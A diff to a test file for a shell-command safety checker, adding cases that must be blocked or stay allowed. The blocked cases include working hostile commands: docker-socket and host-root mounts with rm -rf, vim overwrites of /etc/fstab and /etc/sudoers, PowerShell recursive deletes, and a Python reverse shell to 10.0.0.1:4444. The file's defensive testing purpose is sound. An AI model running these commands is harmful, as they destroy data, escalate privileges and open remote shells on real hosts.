@@ -123,6 +123,14 @@ describe('more spellings from the review', () => {
     'aws s3 cp ./dump.sql s3://b/ --grants read=uri=http://acs.amazonaws.com/groups/global/AllUsers',
     "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --create-volume-permission 'Add=[{Group=all}]'",
     'az network nsg rule create -g rg --nsg-name n -n r --priority 100 --destination-port-ranges 22',
+    'docker run --rm --mount type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock docker:cli',
+    'docker run --rm -v /var/run:/var/run docker:cli sh',
+    'docker run --rm -v /run/containerd/containerd.sock:/run/containerd/containerd.sock alpine sh',
+    'docker container run --rm -v /:/host alpine rm -rf /host/etc',
+    "vim -es -c '%d' -c 'w! /etc/fstab' -c 'q!' README.md",
+    "vim -es -c '%d' -c 'sav! /etc/sudoers' -c 'q!'",
+    `pwsh -c '[System.IO.Directory]::Delete("/srv/app", $true)'`,
+    "pwsh -c 'sal x Remove-Item; x /srv/app -Recurse -Force'",
     `python3 -c 'import socket,os,pty;s=socket.socket();s.connect_ex(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
   ])('%s is not allowed', async (command) => {
     const r = await check(command);
@@ -140,6 +148,9 @@ describe('more spellings from the review', () => {
     'iptables -A INPUT -p icmp -j ACCEPT',
     'nft add rule inet filter input ct state established,related accept',
     'az network nsg rule update -g rg --nsg-name n -n r --priority 200',
+    'docker run --rm -it -v /var/run/docker.sock:/var/run/docker.sock wagoodman/dive:latest myimage',
+    'docker container run --rm alpine rm -rf /',
+    "pwsh -c '[Math]::Round(2.5)'",
   ])('%s stays allowed', async (command) => {
     const r = await check(command);
     expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
